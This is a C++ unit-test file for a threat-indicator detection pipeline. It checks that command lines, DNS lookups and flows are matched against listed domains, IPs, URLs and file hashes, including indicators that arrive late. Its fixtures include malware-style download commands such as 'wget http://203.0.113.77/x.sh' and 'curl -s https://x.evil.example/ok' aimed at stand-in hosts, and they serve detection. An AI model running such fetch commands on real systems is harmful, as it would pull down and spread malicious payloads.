// Listed values in every place that an observation can name them, and indicators that come late.
#include <gtest/gtest.h>

#include "tests/pipeline_core/support.h"

namespace picket {
namespace {

using namespace testing_support;

constexpr const char* kDownload = "Detected file download from a malicious source";
constexpr const char* kConnection = "Suspicious IP address communication";
constexpr const char* kName = "Malicious Domain Name Request";

/// Keeps the reasons beside the findings.
struct IndicatorReasonSink : StoringSink {
  using StoringSink::StoringSink;
  void on_finding(const Finding& f) override {
    StoringSink::on_finding(f);
    reasons.push_back(f.indicator == nullptr ? IndicatorReason{} : *f.indicator);
  }
  std::vector<IndicatorReason> reasons;
};

struct Watch {
  TextTable texts;
  PipelineSettings settings;
  PipelineContent::Builder builder;
  std::shared_ptr<const PipelineContent> content;
  std::unique_ptr<PipelineCore> core;
  std::unique_ptr<IndicatorReasonSink> sink;
  std::uint32_t next_sequence = 0;

  Watch() {
    settings.sightings.max = 1000;
    settings.novelty = false;
  }
  void start() {
    texts.freeze();
    content = builder.build();
    core = std::make_unique<PipelineCore>(content, settings, texts);
    sink = std::make_unique<IndicatorReasonSink>(*content);
    for (std::uint32_t d = 0; d < 3; ++d) core->register_device(DeviceId(d), ClassId(0), Duration(), kStart);
  }
  void send(Time time, std::vector<Observation> observations, std::uint32_t device = 0) {
    core->ingest(DeviceMessage{DeviceId(device), next_sequence++, time, Encoding::kG2FlatBuffers, {}, observations}, *sink);
  }
};

Indicator words(std::string source, Time from = kStart) {
  return {from, Time::max(), std::move(source), 80, Tlp::kAmber, "indicator--1"};
}
std::shared_ptr<const IndicatorSet> set_of(std::initializer_list<const char*> values, std::string source = "later") {
  IndicatorSet::Builder builder;
  for (const char* value : values) builder.add(*read_value(value), words(source));
  return builder.seal();
}
TEST(ShardIndicators, finds_what_a_command_line_downloads_and_says_why) {
  Watch w;
  const Observation url = exec(w.texts, minute(1), "wget http://a.example.com/bins/arm7");
  const Observation host = exec(w.texts, minute(1), "curl -s https://x.evil.example/ok");
  const Observation address = exec(w.texts, minute(1), "tftp://203.0.113.9/x");
  const Observation hash = exec(w.texts, minute(1), "/tmp/" + std::string(32, 'a'));
  const Observation good = exec(w.texts, minute(1), "wget http://good.example.com/bins/arm6");
  for (const char* value : {"http://a.example.com/bins/arm7", "evil.example", "203.0.113.9"}) {
    w.builder.indicators().add(*read_value(value), words(value));
  }
  w.builder.indicators().add(*read_value(std::string(32, 'a')), words("hash"));
  w.start();
  w.send(minute(61), {url}, 0);
  w.send(minute(61), {host}, 1);
  w.send(minute(61), {address, good}, 2);
  w.send(minute(62), {hash, good}, 0);
  w.core->advance(minute(63), *w.sink);
  EXPECT_EQ(w.sink->alerts(), (std::vector<std::string>{kDownload, kDownload, kDownload, "sim.listed_file_hash"}));
  EXPECT_EQ(w.sink->reasons[0].value, "a.example.com/bins/arm7");
  EXPECT_EQ(w.sink->reasons[1].value, "evil.example");
  EXPECT_EQ(w.sink->reasons[2].value, "203.0.113.9");
  const IndicatorReason& why = w.sink->reasons[3];
  EXPECT_EQ(why.kind, IndicatorKind::kFileHash);
  EXPECT_EQ(why.source, "hash");
  EXPECT_EQ(why.id, "indicator--1");
  EXPECT_EQ(why.tlp, Tlp::kAmber);
  EXPECT_DOUBLE_EQ(why.confidence, 80);
}

TEST(ShardIndicators, confidence_is_that_of_the_moment) {
  Watch w;
  w.builder.indicators().add(*read_value("203.0.113.9"), words("t", kStart - Duration::days(30)));
  w.start();
  w.send(kStart, {flow(kStart, "203.0.113.9", 23)});
  w.core->advance(minute(1), *w.sink);
  ASSERT_EQ(w.sink->alerts(), std::vector<std::string>{kConnection});
  EXPECT_DOUBLE_EQ(w.sink->reasons[0].confidence, 40);
}

TEST(ShardIndicators, a_listed_port_narrows_a_flow) {
  Watch w;
  w.builder.indicators().add(*read_value("203.0.113.9:3561"), words("t"));
  w.start();
  w.send(minute(1), {flow(minute(1), "203.0.113.9", 443)}, 0);
  w.send(minute(1), {flow(minute(1), "203.0.113.9", 3561)}, 1);
  w.core->advance(minute(2), *w.sink);
  ASSERT_EQ(w.sink->findings.size(), 1U);
  EXPECT_EQ(w.sink->findings[0].device, 1U);
}

TEST(ShardIndicators, a_new_set_holds_from_its_time_on_for_what_is_accepted_then) {
  for (const bool one_by_one : {true, false}) {
    Watch w;
    w.settings.sightings.max = 0;
    w.start();
    w.core->reload_indicators(minute(10), set_of({"203.0.113.9"}));
    w.core->reload_indicators(minute(20), set_of({}));
    std::uint32_t device = 0;
    for (const Time time : {minute(10) - Duration::microseconds(1), minute(10), minute(20)}) {
      const std::vector<Observation> observations{flow(time, "203.0.113.9", 23)};
      const DeviceMessage message{DeviceId(device), device, time, Encoding::kG2FlatBuffers, {}, observations};
      ++device;
      if (one_by_one) {
        w.core->ingest(message, *w.sink);
      } else {
        w.core->submit(message);
      }
    }
    w.core->advance(minute(30), *w.sink);
    ASSERT_EQ(w.sink->findings.size(), 1U);
    EXPECT_EQ(w.sink->findings[0].device, 1U);
  }
}

TEST(ShardIndicators, a_text_that_was_judged_before_is_judged_again_by_a_new_set) {
  Watch w;
  w.settings.sightings.max = 0;
  const Observation wget = exec(w.texts, minute(1), "wget http://a.example.com/x");
  w.start();
  w.send(minute(1), {wget});
  w.core->reload_indicators(minute(2), set_of({"a.example.com"}));
  w.send(minute(3), {wget});
  w.core->advance(minute(4), *w.sink);
  EXPECT_EQ(w.sink->alerts(), std::vector<std::string>{kDownload});
}

struct IndicatorStory {
  Time found;
  std::vector<Evidence> evidence;
  IndicatorReason reason;
};
/// One story with the indicators known from the start, or at minute 90.
std::vector<IndicatorStory> run_story(bool early, bool kept) {
  Watch w;
  const Observation query = at(minute(1), DnsRecord{w.texts.intern("a.evil.example"), false});
  const Observation wget = exec(w.texts, minute(2), "wget http://203.0.113.77/x.sh");
  const Observation other = exec(w.texts, minute(2), "true");
  const auto listed = set_of({"evil.example", "203.0.113.0/24", "203.0.113.77/x.sh"}, "feed");
  if (early) {
    for (const char* value : {"evil.example", "203.0.113.0/24", "203.0.113.77/x.sh"}) w.builder.indicators().add(*read_value(value), words("feed"));
  }
  w.start();
  w.send(minute(5), kept ? std::vector{other, query} : std::vector{other});
  w.send(minute(6), kept ? std::vector{other, wget, flow(minute(6), "203.0.113.9", 80)} : std::vector{other}, 1);
  if (!early) w.core->reload_indicators(minute(90), listed);
  w.core->advance(minute(100), *w.sink);
  std::vector<IndicatorStory> out;
  for (std::size_t i = 0; i < w.sink->findings.size(); ++i) {
    out.push_back({w.sink->findings[i].time, w.sink->findings[i].evidence, w.sink->reasons[i]});
  }
  return out;
}

TEST(ShardIndicators, an_indicator_that_comes_late_finds_the_same_evidence_later) {
  const std::vector<IndicatorStory> early = run_story(true, true);
  const std::vector<IndicatorStory> late = run_story(false, true);
  const Duration delay = PipelineSettings{}.processing_delay;
  ASSERT_EQ(early.size(), 3U);
  ASSERT_EQ(late.size(), 3U);
  EXPECT_EQ(early[0].found, minute(5) + delay);
  for (std::size_t i = 0; i < 3; ++i) {
    EXPECT_EQ(late[i].found, minute(90) + delay);
    EXPECT_EQ(late[i].evidence, early[i].evidence);
    EXPECT_EQ(late[i].reason.value, early[i].reason.value);
    EXPECT_EQ(late[i].reason.source, "feed");
  }
  EXPECT_EQ(late[0].evidence, (std::vector<Evidence>{{DeviceId(0), 0, 1}}));
}

TEST(ShardIndicators, what_a_policy_dropped_no_late_indicator_finds) {
  EXPECT_TRUE(run_story(true, false).empty());
  EXPECT_TRUE(run_story(false, false).empty());
}

TEST(ShardIndicators, a_sighting_is_found_once) {
  Watch w;
  w.start();
  w.send(minute(1), {flow(minute(1), "203.0.113.9", 23)});
  for (const int hour : {2, 4, 6}) w.core->reload_indicators(minute(60 * hour), set_of({"203.0.113.9"}));
  w.core->advance(minute(600), *w.sink);
  EXPECT_EQ(w.sink->alerts(), std::vector<std::string>{kConnection});
  EXPECT_EQ(w.sink->findings[0].time, minute(120) + w.settings.processing_delay);
  // Nor is one that was found when it came.
  w.send(minute(700), {flow(minute(700), "203.0.113.9", 23)});
  w.core->reload_indicators(minute(800), set_of({"203.0.113.9"}));
  w.core->advance(minute(900), *w.sink);
  EXPECT_EQ(w.sink->count(kConnection), 2U);
}

TEST(ShardIndicators, joins_what_one_device_met_and_keeps_first_and_last) {
  Watch w;
  const Observation query = at(minute(1), DnsRecord{w.texts.intern("evil.example"), false});
  w.start();
  for (int i = 1; i <= 4; ++i) w.send(minute(i), {flow(minute(i), "203.0.113.9", 23), query});
  w.send(minute(5), {flow(minute(5), "203.0.113.8", 23)});
  w.core->reload_indicators(minute(10), set_of({"203.0.113.0/24", "evil.example"}));
  w.core->advance(minute(11), *w.sink);
  EXPECT_EQ(w.sink->alerts(), (std::vector<std::string>{kConnection, kName}));
  EXPECT_EQ(w.sink->findings[0].evidence, (std::vector<Evidence>{{DeviceId(0), 0, 0}, {DeviceId(0), 3, 0}, {DeviceId(0), 4, 0}}));
  EXPECT_EQ(w.sink->findings[0].window_start, minute(1));
  EXPECT_EQ(w.sink->findings[0].window_end, minute(5));
}

TEST(ShardIndicators, what_made_room_or_grew_old_is_counted_and_not_found) {
  Watch w;
  w.settings.sightings.max = 2;
  w.settings.sightings.max_age = Duration::minutes(30);
  w.start();
  for (int i = 1; i <= 3; ++i) w.send(minute(20 * i), {flow(minute(20 * i), "203.0.113." + std::to_string(i), 23)});
  w.core->reload_indicators(minute(75), set_of({"203.0.113.1", "203.0.113.2"}));
  w.core->advance(minute(80), *w.sink);
  EXPECT_TRUE(w.sink->findings.empty());
  EXPECT_EQ(w.core->counts().sightings_dropped, 1U);
  EXPECT_EQ(w.core->counts().sightings_expired, 1U);
}

/// A window of few flows ends at 30 min and is judged a minute later; new indicators come at 20 min. Both raise one
/// alert, so the earlier one holds the later back, however far time goes in one step.
TEST(ShardIndicators, come_in_time_order_with_windows_that_run_out) {
  for (const int step : {1, 60}) {
    Watch w;
    w.settings.lateness = Duration::minutes(1);
    w.builder.add_rule(R"(
title: flows
name: flows
logsource: {category: network_connection, product: linux}
detection: {s: {DestinationPort: 443}, condition: s}
---
title: few flows
alert: Suspicious IP address communication
correlation: {type: event_count, rules: [flows], group-by: [device], timespan: 30m, condition: {lt: 5}}
)",
                       "few.yml");
    w.start();
    ASSERT_TRUE(w.builder.diagnostics().empty()) << to_string(w.builder.diagnostics()[0]);
    w.core->reload_indicators(minute(20), set_of({"203.0.113.9"}));
    w.send(minute(0), {flow(minute(0), "203.0.113.9", 443)});
    for (int now = step; now <= 60; now += step) w.core->advance(minute(now), *w.sink);
    ASSERT_EQ(w.sink->findings.size(), 1U) << step;
    EXPECT_EQ(w.sink->findings[0].time, minute(20) + w.settings.processing_delay) << step;
  }
}

TEST(ShardIndicators, learning_keeps_nothing_for_later) {
  Watch w;
  w.start();
  w.core->set_learning(true);
  w.send(minute(1), {flow(minute(1), "203.0.113.9", 23)});
  w.core->advance(minute(2), *w.sink);
  w.core->set_learning(false);
  w.core->reload_indicators(minute(10), set_of({"203.0.113.9"}));
  w.core->advance(minute(20), *w.sink);
  EXPECT_TRUE(w.sink->findings.empty());
}

}  // namespace
}  // namespace picket
